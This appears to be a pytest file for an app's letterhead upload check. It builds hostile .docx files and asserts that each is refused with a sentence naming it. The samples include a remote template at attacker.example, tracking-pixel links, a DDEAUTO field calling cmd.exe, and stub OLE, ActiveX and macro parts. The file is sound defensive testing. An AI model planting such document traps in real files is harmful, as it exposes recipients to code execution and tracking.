"""The letterhead's allow-list: hostile .docx files (made here with python-docx and zipfile) are refused at upload
with a sentence naming what they hold, and a stored one is refused whenever it would be used."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
import zlib

import docx
import pytest

from exports import word
from models import BaseDocument, GeneratedDocument, db
from security.letterhead import letterhead_problems
from services import documents
from tests.conftest import page_text

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _png() -> bytes:
    """A one-pixel PNG (a logo for the header)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    )


def clean_letterhead() -> bytes:
    """What a team's letterhead holds: the tool's own page with header, PAGE and NUMPAGES footer, a logo and a link."""
    document = word.new_document("Medway ILR team")
    header = document.sections[0].header.paragraphs[0]
    header.add_run().add_picture(io.BytesIO(_png()))
    part = document.part
    link = part.relate_to("https://www.medway.nhs.uk/", f"{REL}/hyperlink", is_external=True)
    anchor = docx.oxml.parse_xml(f'<w:hyperlink xmlns:w="{W}" xmlns:r="{REL}" r:id="{link}"><w:r><w:t>Medway</w:t>'
                                 "</w:r></w:hyperlink>")  # fmt: skip
    document.add_paragraph()._p.append(anchor)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rels(*relationships: tuple[str, str, str, bool]) -> str:
    rows = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in relationships
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">{rows}</Relationships>'


def _with(content: bytes, *, add: dict | None = None, edit: dict | None = None) -> bytes:
    """The .docx with parts added, or edited (`edit[name](text) -> text`)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if edit and item.filename in edit:
                data = edit[item.filename](data.decode()).encode()
            target.writestr(item.filename, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def _document_rel(kind: str, target: str, external: bool = False):
    """An extra relationship of word/document.xml (before the closing tag of its .rels)."""
    row = _rels(("rId900", kind, target, external)).split(f'xmlns="{PACKAGE_RELS}">')[1].split("</Relationships>")[0]
    return {"word/_rels/document.xml.rels": lambda text: text.replace("</Relationships>", row + "</Relationships>")}


def _in_body(xml: str):
    return {"word/document.xml": lambda text: text.replace("<w:sectPr", xml + "<w:sectPr", 1)}


def _field_run(*parts: str) -> str:
    """A complex field whose code is split over several runs, as Word writes them."""
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in parts)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip


VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
MACRO_ENABLED = {"[Content_Types].xml": lambda t: t.replace("document.main+xml", "document.macroEnabled.main+xml")}
TEMPLATE_IN_SETTINGS = {"word/settings.xml": lambda t: t.replace("<w:zoom", '<w:attachedTemplate r:id="rId1"/><w:zoom')}
INCLUDEPICTURE = "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://tracker.example/p.png\" \\d '/></w:p>"


def _hostile(case: str) -> bytes:
    template = _rels(("rId1", f"{REL}/attachedTemplate", "http://attacker.example/t.dotm", True))
    font = _rels(("rId1", f"{REL}/font", "fonts/font1.odttf", False))
    cases = {
        "attached template": dict(add={"word/_rels/settings.xml.rels": template}, edit=TEMPLATE_IN_SETTINGS),
        "altChunk": dict(add={"word/afchunk.mht": "MIME"}, edit=_document_rel(f"{REL}/aFChunk", "afchunk.mht")),
        "OLE object": dict(
            add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
            edit=_document_rel(f"{REL}/oleObject", "embeddings/oleObject1.bin"),
        ),
        "ActiveX": dict(
            add={"word/activeX/activeX1.xml": "<ax/>"}, edit=_document_rel(f"{REL}/control", "activeX/activeX1.xml")
        ),
        "macros": dict(
            add={"word/vbaProject.bin": b"\0macro"}, edit=_document_rel(VBA, "vbaProject.bin") | MACRO_ENABLED
        ),
        "embedded font": dict(add={"word/fonts/font1.odttf": b"\0font", "word/_rels/fontTable.xml.rels": font}),
        "sub-document": dict(edit=_document_rel(f"{REL}/subDocument", "file:///C:/x.docx", external=True)),
        "remote picture": dict(edit=_document_rel(f"{REL}/image", "http://tracker.example/pixel.png", external=True)),
        "INCLUDEPICTURE field": dict(edit=_in_body(INCLUDEPICTURE)),
        "DDEAUTO field split over runs": dict(edit=_in_body(_field_run("DDE", "AUTO c:\\\\windows\\\\cmd.exe"))),
    }
    return _with(clean_letterhead(), **cases[case])


#: What each hostile letterhead's refusal must name.
NAMED = {
    "attached template": "attached to a template (http://attacker.example/t.dotm)",
    "altChunk": "embeds another document (altChunk)",
    "OLE object": "embedded object (OLE)",
    "ActiveX": "ActiveX control",
    "macros": "macros",
    "embedded font": "embeds a font file",
    "sub-document": "sub-document",
    "remote picture": "outside the file (http://tracker.example/pixel.png)",
    "INCLUDEPICTURE field": "INCLUDEPICTURE field",
    "DDEAUTO field split over runs": "DDEAUTO field",
}


def test_a_letterhead_with_header_logo_page_numbers_and_a_link_is_allowed():
    assert letterhead_problems(clean_letterhead()) == []


@pytest.mark.parametrize("case", NAMED)
def test_each_trap_is_found_and_named(case):
    problems = letterhead_problems(_hostile(case))
    assert any(NAMED[case] in problem for problem in problems), problems


def test_the_attached_template_is_found_in_settings_rels_alone():
    rel = _rels(("rId1", f"{REL}/attachedTemplate", "http://attacker.example/t.dotm", True))
    problems = letterhead_problems(_with(clean_letterhead(), add={"word/_rels/settings.xml.rels": rel}))
    assert any("attached to a template (http://attacker.example/t.dotm)" in p for p in problems), problems


@pytest.mark.parametrize("case", NAMED)
def test_a_hostile_letterhead_is_refused_at_upload_with_a_sentence_naming_it(signed_in, case):
    lead = signed_in("team_lead")
    page = lead.submit("/admin/letterhead/", {"document": (io.BytesIO(_hostile(case)), "letterhead.docx")},
                       content_type="multipart/form-data")  # fmt: skip
    text = page_text(page)
    assert page.status_code == 200 and "This letterhead was refused" in text and NAMED[case] in text
    assert db.session.scalar(db.select(db.func.count(BaseDocument.id))) == 0


def test_a_clean_letterhead_is_accepted_at_upload(signed_in):
    lead = signed_in("team_lead")
    answer = lead.submit("/admin/letterhead/", {"document": (io.BytesIO(clean_letterhead()), "letterhead.docx")},
                         content_type="multipart/form-data")  # fmt: skip
    assert answer.status_code == 302
    assert db.session.scalar(db.select(db.func.count(BaseDocument.id))) == 1


def test_a_letterhead_stored_before_the_check_is_refused_whenever_it_would_be_used(signed_in, create_meeting):
    """Stored before this check existed (or changed in the database since): no document is made from it, the
    coordinator is told why, and the team lead sees it on the Letterhead page."""
    trap = _hostile("attached template")
    db.session.add(BaseDocument(filename="old.docx", size_bytes=len(trap), sha256=hashlib.sha256(trap).hexdigest(),
                                content=trap))  # fmt: skip
    meeting = create_meeting()
    coordinator = signed_in("coordinator")
    answer = coordinator.get(f"/admin/meeting-room/{meeting.id}/document/agenda")
    assert answer.status_code == 302  # back to the meeting, with the refusal
    shown = page_text(coordinator.get(answer.headers["Location"]))
    assert "The team&#39;s letterhead cannot be used, so no document was made" in shown
    assert "attached to a template (http://attacker.example/t.dotm)" in shown
    assert db.session.scalar(db.select(db.func.count(GeneratedDocument.id))) == 0
    lead_page = page_text(signed_in("team_lead").get("/admin/letterhead/"))
    assert "The letterhead uploaded last cannot be used" in lead_page and "attached to a template" in lead_page


def test_a_configured_base_document_is_checked_too(app, tmp_path):
    path = tmp_path / "base.docx"
    path.write_bytes(_hostile("macros"))
    app.config["BASE_DOCUMENT"] = str(path)
    with pytest.raises(documents.DomainError, match="macros"):
        documents.base_document()
